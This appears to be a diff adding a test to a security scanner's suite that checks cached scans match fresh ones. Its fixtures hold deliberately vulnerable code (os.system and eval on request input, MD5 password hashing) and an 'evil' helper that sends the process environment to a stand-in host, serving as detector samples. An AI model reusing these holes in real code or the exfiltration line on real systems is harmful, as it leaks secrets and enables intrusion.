@@ -307,3 +307,32 @@ def test_the_result_is_the_same_at_every_scan(write: Writer) -> None:
         for _ in range(2)
     )
     assert first == second
+
+
+def test_what_all_families_remember_is_what_they_would_find(write: Writer, tmp_path: Path) -> None:
+    files = {
+        "app.py": "import os, keep\n\n\ndef handler(event, context):\n    keep.add(event)\n    os.system(event['a'])\n",
+        "keep.py": "SEEN = []\n\n\ndef add(event):\n    SEEN.append(event['b'])\n    return SEEN\n",
+        "web.py": "from flask import Flask, request\napp = Flask('x')\n\n\n@app.get('/')\ndef show():\n    return eval(request.args['q'])\n",
+        "tool.py": "import helper\n\nhelper.go()\n",
+        "helper.py": "def go():\n    return 1\n",
+        "weak.py": "import hashlib\n\n\ndef sign(password):\n    return hashlib.md5(password).hexdigest()\n",
+    }
+    evil = "import os, socket\n\n\ndef go():\n    socket.create_connection(('203.0.113.9', 80)).send(str(os.environ).encode())\n"
+    folder = write(files)
+    chosen = options(folder, cache=tmp_path / "scan.sqlite")
+    seen: set[str] = set()
+    for change in (
+        {},
+        {},
+        {"keep.py": "def add(event):\n    return event\n"},
+        {"helper.py": evil},
+        {"web.py": ""},
+    ):
+        write(change)
+        remembering = scan([folder], chosen)
+        assert remembering.items == scan([folder], options(folder)).items
+        assert remembering.faults == 0
+        seen.add(" ".join(sorted({item.finding.check for item in remembering.items})))
+    assert "event.code event.command state.container weak.hash" in seen
+    assert len(seen) > 2
